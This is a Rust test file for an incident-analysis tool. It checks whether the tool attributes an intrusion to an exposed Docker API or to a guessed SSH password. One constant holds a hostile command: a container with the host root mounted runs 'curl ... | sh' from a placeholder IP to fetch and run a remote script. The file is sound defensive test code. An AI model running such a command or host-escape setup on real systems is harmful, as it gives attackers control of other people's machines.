//! How an intruder's container or account came in, from the rows of a timeline to the answer.

#![allow(clippy::indexing_slicing, reason = "a test may fail loudly")]

mod estate;

use coldcase_model::{Conclusion, Findings, ObservableType, action, outcome};
use estate::{
    INNER, OUTER, Row, container, creates, listens, old_estate, process, request, row, run,
};
use serde_json::json;

const ONLY: &[&str] = &["suspicious-container", "exposed-service", "ssh-auth"];
const OUTSIDER: &str = "203.0.113.150";
const ID: &str = "8e61fab5ff8a64c3f16acb7a74e1a2a1ca3150b6854174c7296234edda67e6ad";
const TAKES_HOST: &str = "chroot /mnt /bin/sh -c curl -fsSL http://203.0.113.150/d/a.sh | sh";

fn docker(listen: &str) -> Vec<Row> {
    vec![
        process(
            2273,
            &format!("/usr/bin/dockerd -H tcp://{listen}"),
            1.0,
            -3600,
        ),
        listens(listen, "dockerd", 2273),
    ]
}

fn intruder() -> Vec<Row> {
    container(
        "quirky",
        ID,
        "busybox:latest",
        TAKES_HOST,
        0,
        json!({"mounts": ["/:/mnt"]}),
    )
}

fn monitoring() -> Vec<Row> {
    (0..60)
        .map(|number| {
            request(
                -3 * 3600 + number * 300,
                "10.8.0.5",
                INNER,
                "GET",
                "/v1.24/containers/json",
            )
        })
        .collect()
}

fn way_in(found: &Findings) -> Option<&Conclusion> {
    found.conclusions.iter().find(|one| one.kind == "way-in")
}

#[test]
fn a_container_made_through_the_api() {
    let rows = [
        old_estate(),
        docker("0.0.0.0:2375"),
        monitoring(),
        intruder(),
        vec![creates(-1, OUTSIDER, ID, "busybox:latest", TAKES_HOST)],
    ]
    .concat();
    let found = run(&rows, ONLY);
    let answer = way_in(&found).expect("an answer");
    assert_eq!(
        (answer.answer.kind, answer.answer.value.as_str()),
        (ObservableType::Service, "docker")
    );
    assert_eq!(answer.about.value, "quirky");
    assert!(answer.confidence > 0.9 && answer.candidates.is_empty());
    for part in [OUTSIDER, "8e61fab5ff8a", "1.0 s later", "10.8.0.5"] {
        assert!(answer.text.contains(part), "{part} in: {}", answer.text);
    }
    let known: Vec<&str> = found.findings.iter().map(|one| one.id.as_str()).collect();
    assert!(
        answer.because.len() >= 2 && answer.because.iter().all(|id| known.contains(&id.as_str()))
    );
}

#[test]
fn an_open_api_with_nobody_seen_is_a_weaker_answer() {
    let rows = [old_estate(), docker("0.0.0.0:2375"), intruder()].concat();
    let found = run(&rows, ONLY);
    let answer = way_in(&found).expect("an answer");
    assert_eq!(answer.answer.value, "docker");
    assert!(
        answer.confidence < 0.6 && answer.text.contains("nobody is seen asking"),
        "{}",
        answer.text
    );
}

/// Sixty guesses, then a password that lets in.
fn guessed() -> Vec<Row> {
    (0..61)
        .map(|number| {
            row(
                action::SSH_LOGIN,
                "authlog",
                Some(-1_000 + number * 5),
                json!({"method": "password"}),
            )
            .with(|event| {
                event.src_ip = Some("198.51.100.9".into());
                event.src_port = Some(40_000 + u16::try_from(number).expect("small"));
                event.pid = Some(30_000 + number);
                event.user = Some("deploy".into());
                event.outcome = Some(if number == 60 {
                    outcome::SUCCESS
                } else {
                    outcome::FAILURE
                });
            })
        })
        .collect()
}

#[test]
fn a_guessed_account_and_no_service() {
    let found = run(&[old_estate(), intruder(), guessed()].concat(), ONLY);
    let answer = way_in(&found).expect("an answer");
    assert_eq!(
        (answer.answer.kind, answer.answer.value.as_str()),
        (ObservableType::User, "deploy")
    );
}

#[test]
fn a_guessed_account_beside_an_open_api_is_ambiguous() {
    let found = run(
        &[old_estate(), docker("0.0.0.0:2375"), intruder(), guessed()].concat(),
        ONLY,
    );
    let answer = way_in(&found).expect("an answer");
    assert_eq!(
        (answer.answer.kind, answer.candidates.len()),
        (ObservableType::Unknown, 2),
        "{}",
        answer.text
    );
}

#[test]
fn nothing_is_asked_of_a_quiet_estate() {
    let found = run(
        &[old_estate(), docker(&format!("{INNER}:2375")), monitoring()].concat(),
        ONLY,
    );
    assert!(way_in(&found).is_none());
    let open = run(
        &[
            old_estate(),
            docker("0.0.0.0:2375"),
            vec![request(0, OUTSIDER, OUTER, "GET", "/version")],
        ]
        .concat(),
        ONLY,
    );
    assert!(way_in(&open).is_none());
}
